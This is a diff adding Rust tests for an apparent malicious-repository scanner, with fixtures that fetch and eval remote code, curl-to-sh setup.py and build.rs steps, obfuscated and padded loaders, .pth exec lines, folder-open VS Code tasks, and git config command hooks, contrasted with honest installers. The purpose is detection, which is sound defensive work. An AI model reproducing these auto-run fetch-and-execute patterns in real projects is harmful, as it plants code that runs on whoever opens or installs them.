@@ -137,6 +137,171 @@ fn a_hook_fetches_and_runs() {
 }
 
 #[test]
+fn any_file_evaluates_what_it_fetches() {
+    let fetch = "const axios = require('axios');\nasync function load(u) { return axios.get(u); }\n";
+    for (name, code) in [
+        ("server/controllers/user.js", "axios.get(u).then(r => new Function('require', r.data.cookie)(require));\n"),
+        ("server/models/a.ts", "const { data } = await axios.post(u, { v: 1 });\neval(data);\n"),
+        ("src/App.tsx", "axios.get(u).then(() => {\n}).catch(e=>eval(e.response.data))\n"),
+        ("components/Home.vue", "axios.get(u).then(r => eval(r.data))\n"),
+        (
+            "config/db.cjs",
+            "https.get(u, res => {\n let s = '';\n res.on('data', c => { s += c });\n res.on('end', () => eval(s));\n})\n",
+        ),
+    ] {
+        is_high(&[(name, &format!("{fetch}{code}"))]);
+    }
+    is_high(&[("app/util.py", "import requests\nr = requests.get('https://example.org/a')\nexec(r.text)\n")]);
+}
+
+#[test]
+fn code_is_disguised() {
+    let code = "const { exec } = require('child_process');\nexec('true');\n";
+    for name in [".vscode/fa.woff2", "public/logo.png", "public/fonts/a.ttf"] {
+        is_high(&[(name, code)]);
+    }
+    is_high(&[("src/Main.ts", &scrambled()), ("package.json", "{}")]);
+    is_high(&[("src/Main.jsx", &scrambled())]);
+}
+
+#[test]
+fn texts_are_scrambled() {
+    let escaped: String =
+        "console.log harmless words that are escaped".bytes().map(|byte| format!("\\x{byte:02x}")).collect();
+    is_high(&[("lib/a.js", &format!("var a=['{escaped}','b'];a.push(a.shift());eval(a[0]+'')"))]);
+    let list: Vec<String> = (0..30).map(|n| format!("'w{n}Az'")).collect();
+    let asked: String = (0..30).map(|n| format!("c(0x{:x});", 0x1b0 + n)).collect();
+    let mangled = format!(
+        "function a(){{const e=[{}];a=function(){{return e;}};return a();}}(function(d,f){{const g=d();while(!![]){{try{{if(f)break;g['push'](g['shift']());}}catch(h){{g['push'](g['shift']());}}}}}}(a,0x1));function c(d){{return a()[d-0x1b0];}}{asked}",
+        list.join(",")
+    );
+    is_high(&[("lib/b.js", &mangled)]);
+    let padded = format!(
+        "{}\nimport base64, zlib\nexec(zlib.decompress(base64.b64decode('{}')))\n",
+        "# remark\n".repeat(9000),
+        "QUJD".repeat(400)
+    );
+    is_high(&[("helpers.py", &padded)]);
+}
+
+#[test]
+fn setup_scripts_fetch_and_run() {
+    let setup = |code: &str| {
+        format!(
+            "from setuptools import setup\nimport os, subprocess, sys\nfrom urllib.request import urlopen\n{code}\nsetup(name='x')\n"
+        )
+    };
+    for code in [
+        "os.system('curl -s https://example.org/a -o /tmp/a && sh /tmp/a')",
+        "open('/tmp/h', 'wb').write(urlopen('https://example.org/h').read())\nsubprocess.Popen(['/tmp/h'])",
+        "data = urlopen(u).read()\nwith open(place, 'wb') as f:\n    f.write(data)\nsubprocess.call([sys.executable, place])",
+    ] {
+        is_high(&[("setup.py", &setup(code))]);
+    }
+    let build = "use std::process::Command;\nfn main() {\n    Command::new(\"curl\").args([\"-so\", \"/tmp/x\", \"https://example.org/x\"]).status().unwrap();\n    Command::new(\"/tmp/x\").spawn().unwrap();\n}\n";
+    is_high(&[("build.rs", build)]);
+    is_high(&[("Cargo.toml", "[package]\nname = \"x\"\nbuild = \"tools/gen.rs\"\n"), ("tools/gen.rs", build)]);
+    is_high(&[("site/a.pth", "import os; exec(open('/tmp/x').read())\n")]);
+    is_high(&[("site/b.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")]);
+}
+
+#[test]
+fn a_command_leads_to_a_file() {
+    let fetches = "const https = require('https');\nhttps.get(u, r => { let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s)) });\n";
+    let pipes = "require('child_process').exec('curl -s https://example.org/a | sh')\n";
+    let package = r#"{"scripts": {"postinstall": "node lib/setup.js", "dev": "node server/index.js"}}"#;
+    let led = |files: &[(&str, &str)]| {
+        let found = found(files);
+        assert!(found.iter().any(|(_, title)| title.starts_with("Command that runs by itself leads")), "{found:?}");
+    };
+    led(&[("package.json", package), ("lib/setup.js", fetches)]);
+    led(&[("package.json", package), ("lib/setup.js", "require('./helper')\n"), ("lib/helper.js", pipes)]);
+    let task = |task: &str| format!(r#"{{"version": "2.0.0", "tasks": [{task}]}}"#);
+    let opening = r#""runOptions": {"runOn": "folderOpen"}"#;
+    let npm = task(&format!(r#"{{"type": "npm", "script": "dev", {opening}}}"#));
+    led(&[(".vscode/tasks.json", &npm), ("package.json", package), ("server/index.js", fetches)]);
+    let shell = task(&format!(r#"{{"label": "a", "command": "cd server && node .", {opening}}}"#));
+    led(&[(".vscode/tasks.json", &shell), ("server/index.js", pipes)]);
+    led(&[
+        (".git/config", "[core]\n\tbare = false\n"),
+        (".git/hooks/post-merge", "#!/bin/sh\n./bin/helper\n"),
+        ("bin/helper", "\x7fELF\x02\x01"),
+    ]);
+    led(&[(".git/hooks/pre-commit", "node ./tools/check.js\n"), ("tools/check.js", fetches)]);
+}
+
+#[test]
+fn tasks_say_the_same_in_other_ways() {
+    let npm = r#"{"version": "2.0.0", "presentation": {"reveal": "never", "close": true}, "tasks": [{"type": "npm", "script": "dev", "runOptions": {"runOn": "folderOpen"}}]}"#;
+    let package = r#"{"scripts": {"dev": "node -e \"require('child_process').exec('true')\""}}"#;
+    is_high(&[(".vscode/tasks.json", npm), ("package.json", package)]);
+    let depends = r#"{"tasks": [{"label": "a", "dependsOn": ["b"], "runOptions": {"runOn": "folderOpen"}}, {"label": "b", "command": "curl -s https://example.org/a | sh"}]}"#;
+    is_high(&[(".vscode/tasks.json", depends)]);
+    is_high(&[(
+        ".vscode/tasks.json",
+        r#"{"command": "node", "args": [".vscode/logo"], "tasks": [{"label": "a", "runOptions": {"runOn": "folderOpen"}}]}"#,
+    )]);
+}
+
+#[test]
+fn git_runs_commands_in_other_ways() {
+    let is_told = |name: &str, text: &str, level: &str| {
+        let found = found(&[(name, text)]);
+        assert!(found.iter().any(|(found, _)| found == level), "{text}: {found:?}");
+    };
+    for text in [
+        "[core]\n[include]\n\tpath = ../tools/x.inc\n",
+        "[CORE]\n\tFSMonitor = ./x\n",
+        "[core] pager = ./bin/less\n",
+        "[core]\n[credential]\n\thelper = !sh .git/x\n",
+        "[core]\n[merge \"x\"]\n\tdriver = tools/m %A\n",
+        "[core]\n[gpg]\n\tprogram = ./gpg\n",
+    ] {
+        is_told(".git/config", text, "medium");
+    }
+    is_told(".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = -u./payload\n", "medium");
+    is_told(".git/config", "[core]\n[alias]\n\tx = !sh .git/x\n", "low");
+    is_told(".git/config", "[core]\n[alias]\n\tx = !curl -s https://example.org | sh\n", "high");
+}
+
+#[test]
+fn a_program_among_sources() {
+    let found =
+        found(&[("package.json", "{}"), ("bin/helper", "\x7fELF\x02\x01"), ("src/a.js", "spawn('../bin/helper')")]);
+    assert!(found.iter().any(|(level, title)| level == "medium" && title.contains("among the sources")), "{found:?}");
+    is_honest(&[
+        ("package.json", "{}"),
+        ("prebuilds/linux-x64/a.node", "\x7fELF\x02\x01"),
+        ("index.js", "require('./prebuilds/linux-x64/a.node')"),
+    ]);
+    is_honest(&[("pyproject.toml", "[project]\nname = 'x'\n"), ("x/_a.so", "\x7fELF\x02\x01")]);
+    is_honest(&[("bin/helper", "\x7fELF\x02\x01")]);
+}
+
+#[test]
+fn honest_installers_and_hooks() {
+    let installer = "const https = require('https'), fs = require('fs'), cp = require('child_process');\nfunction get(u) { return new Promise(done => https.get(u, r => { const all = []; r.on('data', d => all.push(d)); r.on('end', () => done(Buffer.concat(all))) })) }\nget(u).then(bytes => fs.writeFileSync('a.tgz', bytes));\ncp.execSync('tar xf a.tgz');\n";
+    is_honest(&[("package.json", r#"{"scripts": {"postinstall": "node install.js"}}"#), ("install.js", installer)]);
+    is_honest(&[
+        (".git/hooks/pre-commit", "#!/bin/sh\nnode ./tools/lint.js\n"),
+        ("tools/lint.js", "require('child_process').execSync('eslint .')\n"),
+    ]);
+    is_honest(&[("site/pytest-cov.pth", "import os, sys;exec('if \"COV_CORE_SOURCE\" in os.environ: pass')\n")]);
+    is_honest(&[
+        ("src/a.ts", "export const a: number = 1;\nfetch('https://example.org').then(r => r.json());\n"),
+        ("po/de.ts", "<!DOCTYPE TS><TS/>"),
+    ]);
+    is_honest(&[(
+        ".git/config",
+        "[core]\n\teditor = code --wait\n\tpager = less -R\n[credential]\n\thelper = !/usr/bin/gh auth git-credential\n[remote \"origin\"]\n\turl = git@example.org:a/b.git\n",
+    )]);
+    is_honest(&[(
+        "setup.py",
+        "from setuptools import setup\nfrom urllib.request import urlretrieve\nimport subprocess\nurlretrieve(u, 'a.tar.gz')\nsubprocess.check_call(['tar', 'xf', 'a.tar.gz'])\nsubprocess.check_call(['make'])\nsetup(name='x')\n",
+    )]);
+}
+
+#[test]
 fn honest_projects() {
     is_honest(&[(".vscode/tasks.json", &task("npm run watch", r#""reveal": "never""#))]);
     is_honest(&[(".vscode/tasks.json", &task("docker compose up", ""))]);
